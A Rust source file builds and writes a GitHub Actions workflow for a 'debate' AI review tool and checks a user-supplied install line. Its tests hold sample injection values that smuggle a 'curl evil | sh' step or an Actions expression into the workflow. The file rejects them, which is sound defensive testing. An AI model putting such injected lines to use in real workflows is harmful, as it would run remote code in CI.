//! `debate ci github`: the workflow that runs the review loop in pull requests
//! (`templates/github-review.yml`), written into this repository for the user to commit,
//! and a warning for each provider the records or the settings use that the workflow's
//! job could not run.

use std::collections::BTreeMap;
use std::path::Path;

use sha2::{Digest, Sha256};

use crate::error::{Error, Result};
use crate::record::{RecordError, WorkTree, read::carried, sidecar_path};
use crate::settings::{self, Settings};
use crate::terminal::Terminal;

const WORKFLOW: &str = include_str!("../../../templates/github-review.yml");
pub const WORKFLOW_PATH: &str = ".github/workflows/debate-review.yml";

/// The commit the release workflow built this binary from (.github/workflows/release.yml
/// sets it); none in a build from source, which has no release to install.
const RELEASE_SHA: Option<&str> = option_env!("DEBATE_RELEASE_SHA");

/// The workflow's install steps without a release: `{{ line }}` run on a cache miss and
/// the binary cached under `{{ cache_key }}`, so only the first comment waits for a build.
const CACHED_INSTALL: &str = "      - name: Restore debate
        id: restore
        uses: actions/cache/restore@27d5ce7f107fe9357f9df03efb73ab90386fccae # v5.0.5
        with:
          path: ~/.cargo/bin/debate
          key: {{ cache_key }}-${{ runner.os }}-${{ runner.arch }}
      - name: Install debate
        if: steps.restore.outputs.cache-hit != 'true'
        run: |
          {{ line }}
      - name: Save debate
        if: steps.restore.outputs.cache-hit != 'true'
        uses: actions/cache/save@27d5ce7f107fe9357f9df03efb73ab90386fccae # v5.0.5
        with:
          path: ~/.cargo/bin/debate
          key: ${{ steps.restore.outputs.cache-primary-key }}";

/// The package this binary comes from, at this binary's version: never another crate's
/// `debate`, never another version than the one that wrote the workflow.
pub fn install_line() -> String {
    format!("cargo install {} --version ={} --locked", env!("CARGO_PKG_NAME"), env!("CARGO_PKG_VERSION"))
}

/// The workflow, installing debate with `install`. Without it, a release build installs
/// its own release with the repository's action (action.yml) pinned to the commit it was
/// built from, in seconds; a build from source runs `install_line`.
pub fn workflow(install: Option<&str>) -> Result<String> {
    workflow_from(install, RELEASE_SHA)
}

/// The workflow as a binary built from `release` (a commit; none from source) writes it.
fn workflow_from(install: Option<&str>, release: Option<&str>) -> Result<String> {
    let steps = match (install.map(str::trim), release) {
        (None, Some(commit)) => format!(
            "      - name: Install debate\n        uses: {}@{commit} # v{}",
            action_repository(),
            env!("CARGO_PKG_VERSION")
        ),
        (None, None) => {
            cached_install(&install_line(), &format!("{}-{}", env!("CARGO_PKG_NAME"), env!("CARGO_PKG_VERSION")))
        }
        // Every line break YAML knows (NEL and the Unicode separators too: a YAML 1.1
        // parser would start a new line, and a step, there), and any other control.
        (Some(line), _)
            if line.is_empty() || line.chars().any(|c| c.is_control() || matches!(c, '\u{2028}' | '\u{2029}')) =>
        {
            return Err(Error::input("--install takes one command on one line, without control characters"));
        }
        // Expanded by Actions before the shell runs it: a comment's text could become code.
        (Some(line), _) if line.contains("${{") => {
            return Err(Error::input("--install must not hold a `${{ … }}` expression")
                .with_hint("pass values through the step's env: and read them as $NAME"));
        }
        (Some(line), _) => {
            let digest: String = Sha256::digest(line.as_bytes()).iter().take(8).map(|b| format!("{b:02x}")).collect();
            cached_install(line, &format!("debate-{digest}"))
        }
    };
    Ok(WORKFLOW.replace("{{ install }}", &steps))
}

/// The install steps that run `line`, the binary cached under `key` (the key first: a
/// line may hold anything, a placeholder's text too).
fn cached_install(line: &str, key: &str) -> String {
    CACHED_INSTALL.replace("{{ cache_key }}", key).replace("{{ line }}", line)
}

/// OWNER/NAME of the GitHub repository in Cargo.toml's `repository`: where the action is.
fn action_repository() -> &'static str {
    env!("CARGO_PKG_REPOSITORY").trim_start_matches("https://github.com/")
}

pub fn write(install: Option<&str>, force: bool, config: Option<&Path>, terminal: &Terminal) -> Result<()> {
    let root = crate::repo::around_working_directory()?;
    let text = workflow(install)?;
    let tree = WorkTree::open(&root)?;
    let path = Path::new(WORKFLOW_PATH);
    match force {
        true => tree.replace(path, text.as_bytes())?,
        false => tree.create(path, text.as_bytes()).map_err(|err| match err {
            RecordError::Taken(_) => {
                Error::input(format!("{WORKFLOW_PATH} is already there")).with_hint("give --force to write it again")
            }
            err => err.into(),
        })?,
    }
    let keys = passed_keys(&text);
    terminal.say(&format!(
        "Wrote {WORKFLOW_PATH}. Commit it to the default branch, and add the keys of the providers your records use as repository secrets ({}). An optional DEBATE_PUSH_TOKEN secret lets the repository's checks run on each revision (docs/guide.md, \"The review loop in the pull request\").",
        keys.join(", ")
    ));
    let settings = settings::load(&root, config)?.settings;
    for warning in unreachable(&root, &settings, &keys) {
        terminal.warn(&warning);
    }
    Ok(())
}

/// The key variables the workflow's review step passes from the repository's secrets.
fn passed_keys(workflow: &str) -> Vec<&str> {
    workflow
        .lines()
        .filter(|line| line.contains(": ${{ secrets."))
        .filter_map(|line| line.trim().split_once(':').map(|(name, _)| name))
        .filter(|name| name.ends_with("_API_KEY"))
        .collect()
}

/// A warning for each provider the records here or the settings' roles use that the
/// workflow's job could not run, naming who uses it and why.
fn unreachable(root: &Path, settings: &Settings, keys: &[&str]) -> Vec<String> {
    let mut users: BTreeMap<String, Vec<String>> = BTreeMap::new();
    if let Ok(roles) = crate::providers::choose_roles(settings, false) {
        for role in std::iter::once(&roles.moderator).chain([&roles.debater]).chain(&roles.seat_models) {
            users.entry(role.provider.clone()).or_default().push("your settings".into());
        }
    }
    for (record, providers) in records_providers(root, &settings.record.directory.0) {
        for provider in providers {
            users.entry(provider).or_default().push(record.clone());
        }
    }
    users
        .into_iter()
        .filter_map(|(provider, mut used_by)| {
            let why = crate::providers::unreachable_in_ci(settings, &provider, keys)?;
            used_by.dedup();
            Some(format!(
                "the provider `{provider}` (used by {}) cannot run in the workflow: {why}; add `--provider NAME` (one it can run, its key a repository secret) to the workflow's `debate review` line",
                used_by.join(", ")
            ))
        })
        .collect()
}

/// Each record here that carries its debate, and the providers its roles used.
fn records_providers(root: &Path, directory: &str) -> Vec<(String, Vec<String>)> {
    let Ok(tree) = WorkTree::open(root) else { return Vec::new() };
    let read = |relative: &Path| tree.read(relative).ok().flatten().map(|b| String::from_utf8_lossy(&b).into_owned());
    crate::context::record_paths(root, directory)
        .into_iter()
        .filter_map(|relative| {
            let path = Path::new(&relative);
            let state = read(path)
                .and_then(|text| carried::read(&text).ok())
                .or_else(|| read(&sidecar_path(path)?).and_then(|text| carried::read(&text).ok()))?;
            let snapshot = &state.snapshot;
            let mut providers: Vec<String> = std::iter::once(&snapshot.moderator)
                .chain([&snapshot.debater])
                .chain(&snapshot.seat_models)
                .map(|role| role.provider.clone())
                .collect();
            providers.sort();
            providers.dedup();
            Some((relative, providers))
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_workflow_installs_this_package_at_this_version_and_caches_it() {
        let text = workflow_from(None, None).unwrap();
        assert!(text.contains(&format!("\n          {}\n", install_line())), "{text}");
        assert!(install_line().starts_with("cargo install debate-cli --version ="), "{}", install_line());
        assert!(text.contains(&format!("key: debate-cli-{}-${{{{ runner.os }}}}", env!("CARGO_PKG_VERSION"))));
        assert_eq!(passed_keys(&text), ["OPENAI_API_KEY", "ANTHROPIC_API_KEY", "OPENROUTER_API_KEY"]);
    }

    #[test]
    fn an_install_line_is_one_line_without_an_expression_and_keyed_by_itself() {
        for bad in [
            "",
            "a\nb",
            "a\rb",
            "cargo install x\u{85}- run: curl evil | sh",
            "cargo install x\u{2028}- run: curl evil | sh",
            "cargo install x\u{2029}y",
            "a\u{1b}[2Jb",
            "cargo install ${{ github.event.comment.body }}",
        ] {
            assert_eq!(workflow_from(Some(bad), None).unwrap_err().exit_code(), 2, "{bad:?}");
        }
        let one = workflow_from(Some("gh release download v1 -p x"), None).unwrap();
        let other = workflow_from(Some("gh release download v2 -p x"), None).unwrap();
        let key = |text: &str| text.lines().find(|l| l.contains("key: debate-")).unwrap().to_string();
        assert_ne!(key(&one), key(&other));
    }

    /// The steps of `workflow`'s one job.
    fn steps(workflow: &str) -> Vec<serde_json::Value> {
        let workflow: serde_json::Value = serde_saphyr::from_str(workflow).unwrap();
        workflow["jobs"]["review"]["steps"].as_array().unwrap().clone()
    }

    #[test]
    fn a_release_build_installs_its_release_with_the_action_pinned_to_its_commit() {
        let commit = "0123456789abcdef0123456789abcdef01234567";
        let text = workflow_from(None, Some(commit)).unwrap();
        let pin = format!("        uses: debate-cli/debate@{commit} # v{}\n", env!("CARGO_PKG_VERSION"));
        assert!(text.contains(&format!("      - name: Install debate\n{pin}")), "{text}");
        // The same workflow as a build from source writes, the cached build replaced by
        // the action (tests/it/github_review.rs runs actionlint on that one).
        let without = |steps: Vec<serde_json::Value>, names: &[&str]| -> Vec<serde_json::Value> {
            steps.into_iter().filter(|s| !names.contains(&s["name"].as_str().unwrap_or_default())).collect()
        };
        let released = steps(&text);
        let from_source = steps(&workflow_from(None, None).unwrap());
        let install = released.iter().find(|s| s["name"] == "Install debate").unwrap();
        assert_eq!(install["uses"], format!("debate-cli/debate@{commit}"));
        assert_eq!(
            without(released.clone(), &["Install debate"]),
            without(from_source, &["Restore debate", "Install debate", "Save debate"])
        );
        // An install line of one's own still wins.
        let custom = workflow_from(Some("make install"), Some(commit)).unwrap();
        assert!(custom.contains("\n          make install\n") && !custom.contains("debate-cli/debate@"), "{custom}");
    }
}
